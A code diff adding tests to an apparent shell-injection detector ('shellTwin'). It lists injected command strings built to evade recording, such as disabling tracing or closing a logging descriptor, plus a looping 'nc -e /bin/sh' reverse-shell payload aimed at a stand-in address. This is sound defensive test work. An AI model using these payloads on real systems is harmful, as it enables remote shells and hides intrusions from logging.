@@ -109,6 +109,26 @@ withTwin("shellTwin, of what is no attack", () => {
 })
 
 withTwin("shellTwin, of hostile payloads", () => {
+  test.each([
+    ...["; set +x; exec 8>/dev/null 2>/dev/null; id", "; unset CANARY_NONCE; set +x; id"],
+    ...["; CANARY_NONCE=x; set +x; id", "; exec 8>&-; set +x; id"],
+    ...["; { set +x; } 2>/dev/null; exec 8>&-; id", "; { set +x; exec 8>x; id; } 2>/dev/null"],
+  ])("counts %p, which keeps its command from being recorded", async (payload) => {
+    expect(await effectsOf(payload)).not.toEqual([])
+  })
+
+  test("names the template where the recording was prevented", async () => {
+    const { attempts } = await run("'; { set +x; } 2>/dev/null; exec 8>&-; id; '")
+    expect(attempts.map(({ template }) => template)).toEqual(["dash/single"])
+    expect(attempts[0]?.effects[0]?.detail).toBe('"id" ran and was kept from being recorded')
+  })
+
+  test("answers with what ran where a payload loops in every template", async () => {
+    const looping = "; while true; do nc -e /bin/sh 192.0.2.1 4444; sleep 5; done"
+    const { attempts } = await run(looping, { budgetMs: 3_000 })
+    expect(JSON.stringify(attempts)).toContain("nc ran with")
+  })
+
   test("is inconclusive for another system's shell", async () => {
     expect((await run("& ipconfig /all")).inconclusive).toBe("platform")
     expect((await run("& whoami")).inconclusive).toBeUndefined()
